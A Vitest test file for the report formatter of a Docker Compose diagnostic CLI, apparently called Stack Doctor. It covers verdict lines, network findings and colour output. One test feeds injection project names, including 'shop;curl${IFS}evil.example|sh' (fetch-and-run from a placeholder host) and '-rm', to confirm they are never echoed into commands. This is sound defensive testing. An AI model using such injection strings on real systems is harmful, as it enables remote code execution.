import { describe, expect, it } from 'vitest';
import { formatCheckReport } from '../../../../src/main/cli/format/check-report.ts';
import { diagnosisFixture } from '../diagnosis.fixture.ts';

const ESC = String.fromCharCode(27);
const ANSI = new RegExp(`${ESC}\\[`);

describe('formatCheckReport', () => {
  it('starts with the verdict line: verdict, counts and duration', () => {
    const [first] = formatCheckReport(diagnosisFixture(), { color: false }).split('\n');
    expect(first).toBe('✖ UNHEALTHY  1 error, 1 warning, 1 info · 0 services · 412 ms');
  });

  it('says "not diagnosed" rather than a verdict when the config is invalid (exit 3)', () => {
    const invalid = diagnosisFixture({
      findings: [
        {
          id: 'CONFIG_INVALID',
          severity: 'error',
          subject: '/w/stack-doctor.yaml:3',
          summary: 'Invalid probe.timeoutMs in /w/stack-doctor.yaml at line 3',
          cause: 'Invalid input: expected number, received string',
          evidence: [],
          fix: { description: 'Edit /w/stack-doctor.yaml line 3' },
        },
      ],
    });
    const [first] = formatCheckReport(invalid, { color: false }).split('\n');
    expect(first).toBe('✖ NOT DIAGNOSED (invalid configuration)  1 error, 0 warnings, 0 info · 0 services · 412 ms');
  });

  it('keeps multi-line fixes (a compose snippet) indented under their label', () => {
    const base = diagnosisFixture();
    const [first] = base.findings;
    const lasting = 'Add orch_backend:\nservices:\n  dev:\n    networks: [orch_backend]';
    const text = formatCheckReport({ ...base, findings: [{ ...first!, fix: { ...first!.fix, lasting } }] }, { color: false });
    expect(text).toContain(`lasting fix: Add orch_backend:\n${' '.repeat(12)}services:\n${' '.repeat(14)}dev:\n`);
  });

  it('shows the runtime and the orchestrator decision with its reason before the matrix', () => {
    const text = formatCheckReport(diagnosisFixture(), { color: false });
    expect(text).toMatch(/Runtime: +Stack Doctor runs on host \(laptop; no container signals\)/);
    expect(text).toContain(
      'Orchestrator: localhost-fallback → http://localhost:8006 (configured http://orchestrator-service:8006 from default)',
    );
    expect(text).toContain('orchestrator-service does not resolve here; http://localhost:8006 answers');
    expect(text.indexOf('Orchestrator:')).toBeLessThan(text.indexOf('Runtime truth matrix'));
  });

  it('prints the truth matrix per project with both vantage points and the basis', () => {
    const text = formatCheckReport(diagnosisFixture(), { color: false });
    expect(text).toContain('shop (compose) · containers 1/2 up · compose.yaml');
    expect(text).toContain('devcontainer → http://orchestrator-service:8006 (env:ORCHESTRATOR_SERVICE_URL)');
    expect(text).toContain("from container: resolves no, answers no [topology+lookup] nslookup: can't resolve");
    expect(text).toMatch(/from host: +resolves no, answers – \[probe\] ENOTFOUND/);
  });

  it('lists findings worst first with cause, command and lasting fix', () => {
    const text = formatCheckReport(diagnosisFixture(), { color: false });
    const order = ['DNS_UNRESOLVABLE_FROM_CONTAINER', 'ORCHESTRATOR_LOCALHOST_FALLBACK', 'HEALTH_DEGRADED'].map((id) => text.indexOf(id));
    expect(order.every((at) => at > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(text).toContain('cause: devcontainer is not on network orch_backend');
    expect(text).toContain('run:   docker network connect orch_backend shop-dev-1');
    expect(text).toContain('lasting fix: Add orch_backend as an external network');
  });

  it('offers --project for other compose projects when nothing matched', () => {
    const text = formatCheckReport(
      diagnosisFixture({
        projects: [],
        findings: [],
        verdict: 'healthy',
        otherProjects: [{ name: 'billing', workingDir: '/srv/billing', containers: 3 }],
      }),
      { color: false },
    );
    expect(text.split('\n')[0]).toMatch(/^✔ HEALTHY/);
    expect(text).toContain('stack-doctor check --project billing');
    expect(text).toContain('3 containers (/srv/billing)');
  });

  it('never offers a command with a project name a label made up', () => {
    const text = formatCheckReport(
      diagnosisFixture({
        projects: [],
        findings: [],
        verdict: 'healthy',
        otherProjects: [
          { name: 'shop;curl${IFS}evil.example|sh', containers: 1 },
          { name: '-rm', containers: 1 },
        ],
      }),
      { color: false },
    );
    expect(text).not.toContain('--project shop;');
    expect(text).not.toContain('--project -rm');
    expect(text).toContain('The compose project name "shop;curl${IFS}evil.example|sh" is not valid');
    expect(text).toContain('The compose project name "-rm" is not valid');
  });

  it('uses ANSI colours only when asked', () => {
    expect(formatCheckReport(diagnosisFixture(), { color: false })).not.toMatch(ANSI);
    expect(formatCheckReport(diagnosisFixture(), { color: true })).toMatch(ANSI);
  });
});
